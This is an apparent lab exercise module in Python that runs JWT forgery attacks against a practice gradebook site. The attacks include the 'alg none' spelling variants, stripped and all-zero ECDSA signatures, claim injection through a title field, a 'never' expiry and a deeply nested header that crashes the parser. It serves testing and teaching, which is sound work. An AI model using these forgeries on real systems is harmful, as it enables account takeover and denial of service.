"""Attacks on what a verifier does not look at: signature, header, JSON, and a date that is none."""

import json

from labkit.attacks.bearer import (
    bearer,
    got,
    list_people,
    own_token,
    raise_own_grade,
    read_bobs_grade,
)
from labkit.attacks.forged import as_carol, as_grace, first_breach
from labkit.catalogue import SiteBroken, Verdict, attack, breached, held
from labkit.exchange import Request
from labkit.forging import NONE_SPELLINGS, Forgery
from labkit.practice.surface import Site

OWN_TOKEN = "Mallory's own account, and its token"
DAY_S = 86_400.0
LEVELS = 2900  # as many as a token of 8 KiB holds


@attack("T1", "Edit the claims", start=OWN_TOKEN)
def edit_the_claims(site: Site) -> Verdict:
    """Mallory writes another name and role into her token, and leaves the signature as it was."""
    return read_bobs_grade(site, as_carol(site).token)


@attack("T2", "Say that nothing is signed", start=OWN_TOKEN)
def say_that_nothing_is_signed(site: Site) -> Verdict:
    """Mallory makes an admin's token with `alg` none, in every mix of capital and small letters.

    A filter often knows one spelling, and what reads the token behind it knows them all.
    """
    unsigned = as_grace(site)
    tries = (
        list_people(site, unsigned.unsigned(word).token, f"With a token that says {word!r}")
        for word in NONE_SPELLINGS
    )
    return first_breach(tries, f"Unsigned tokens are refused, all {len(NONE_SPELLINGS)} spellings.")


@attack("T2b", "Leave the signature empty", start=OWN_TOKEN)
def leave_the_signature_empty(site: Site) -> Verdict:
    """Mallory keeps the header with its algorithm, and sends nothing behind the second dot."""
    return read_bobs_grade(site, as_carol(site).drop_signature().token)


@attack("T13", "Use what must be understood", start="A teacher's token off a screen's address bar")
def use_what_must_be_understood(site: Site) -> Verdict:
    """Mallory copies a screen's token, which is critically for looking only, and writes with it."""
    if raise_own_grade(site, site.leak("class screen")["carol"]):
        return breached("With a token for looking only, Mallory gave herself 100 points as carol.")
    return held("A token with an extension that the site does not know changes nothing.")


@attack("T20", "Write a claim into the title", start="Mallory's own account, and a screen's title")
def write_a_claim_into_the_title(site: Site) -> Verdict:
    """The screens put claims together as text. Mallory's title ends early, and goes on as claims.

    The token is genuine: it says twice who she is, first what is true and then what she wrote.
    """
    token = _screen_token(site, title='My grades","sub":"grace","role":"admin')
    return list_people(site, token, "With a title that goes on as claims")


@attack("T21", "Sign with two zeros", start=OWN_TOKEN)
def sign_with_two_zeros(site: Site) -> Verdict:
    """Mallory puts r = s = 0 in place of the signature, which fits every message and every key."""
    if raise_own_grade(site, as_carol(site).zero_signature().token):
        return breached("With r = s = 0 as signature, Mallory gave herself 100 points as carol.")
    return held("Two zeros are no signature.")


@attack("T22", "Ask for no end", start="Mallory's own account, and a screen that takes an end")
def ask_for_no_end(site: Site) -> Verdict:
    """The screens copy an end that is no number. Mallory's token ends "never"; she comes later."""
    token = _screen_token(site, title="My grades", until="never")
    site.later(DAY_S)
    answer = site.client("mallory").get("/api/grades/3", **bearer(token))
    if answer.ok:
        return breached("A day later Mallory's token still opens her grade: its end is 'never'.")
    return held(f"{answer.status}: a token whose end is no date is good at no time.")


@attack("T23", "Nest a header deeply", start="Nothing: no account is needed")
def nest_a_header_deeply(site: Site) -> Verdict:
    """A stranger sends a token whose header is brackets within brackets, and no signature.

    First one with a flat header: a site that crashes at that one is broken, not attacked.
    """
    stranger = site.client("a stranger")
    for levels in (1, LEVELS):
        token = _nested(levels)
        try:
            answer = stranger.get("/api/grades", **bearer(token))
        except SiteBroken:
            if levels == 1:
                raise
            told = f"One request with {len(token)} characters, from a stranger, crashes the site."
            return breached(told)
    return held(f"{answer.status}: a header of {LEVELS} levels is refused like any other.")


def _screen_token(site: Site, **asked: str) -> str:
    """Return a token from the screens, which sign with the gradebook's key.

    Raises:
        SiteBroken: They give none.
    """
    wanted = Request.of_json("POST", "/api/token", asked, **bearer(own_token(site)))
    token = got(site.client(at="screens").send(wanted), "access_token")
    if not token:
        raise SiteBroken("The screens give somebody who is logged in no token.")
    return token


def _nested(levels: int) -> str:
    header = {"alg": "ES256", "typ": "at+jwt", "x": "brackets"}
    raw = json.dumps(header).replace('"brackets"', "[" * levels + "]" * levels)
    return Forgery.of("e30.e30.AAAA").raw_header(raw.encode()).token
